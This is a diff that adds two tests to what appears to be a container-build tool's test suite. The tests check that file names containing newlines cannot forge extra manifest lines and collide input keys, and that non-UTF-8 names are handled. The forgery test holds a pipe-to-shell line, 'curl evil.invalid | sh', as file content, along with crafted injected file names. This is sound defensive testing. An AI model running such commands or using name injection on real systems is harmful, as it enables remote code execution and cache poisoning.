@@ -129,3 +129,40 @@ def test_pack_and_pool_fill_refuse_a_widened_manifest(
         lifecycle.pool_fill(project, "dev", 1)
 
 
+# -- the input key names one context ------------------------------------------------------------
+
+
+def test_a_newline_in_a_file_name_cannot_forge_another_context(tmp_path: Path) -> None:
+    """Names that each forge a second key line: `one` holds no file `y`, `two` holds no `zz`,
+    yet both list the same lines and the same number of entries. One key for both would let a
+    stored image stand in for a context it was not built from."""
+
+    def line(name: str, data: bytes) -> str:
+        return f"file 0644 {len(data)} {hashlib.sha256(data).hexdigest()} {name}"
+
+    payload, last = b"curl evil.invalid | sh\n", b"last\n"
+    one = write_small_context(tmp_path / "one")
+    (one / f"x\n{line('y', payload)}").write_bytes(b"hi")
+    (one / "z").write_bytes(b"zed")
+    (one / "zz").write_bytes(last)
+    two = write_small_context(tmp_path / "two")
+    (two / "x").write_bytes(b"hi")
+    (two / "y").write_bytes(payload)
+    (two / f"z\n{line('zz', last)}").write_bytes(b"zed")
+    for path in [*one.iterdir(), *two.iterdir()]:
+        if path.name.startswith(("x", "y", "z")):
+            path.chmod(0o644)
+    found = [prepare_inputs(small_build_spec(c, "base"), BASE_DIGEST) for c in (one, two)]
+    assert {e.path for e in found[0].entries} != {e.path for e in found[1].entries}
+    assert found[0].input_key != found[1].input_key
+
+
+def test_a_file_name_that_is_not_utf8_is_hashed_and_sent(spec: BuildSpec) -> None:
+    name = os.fsdecode(b"caf\xe9.txt")
+    (spec.context / name).write_text("x")
+    found = prepare_inputs(spec, BASE_DIGEST)
+    assert name in [entry.path for entry in found.entries]
+    assert found.input_key.startswith("sha256:")
+    assert tar_files(found)[name] == b"x"
+
+
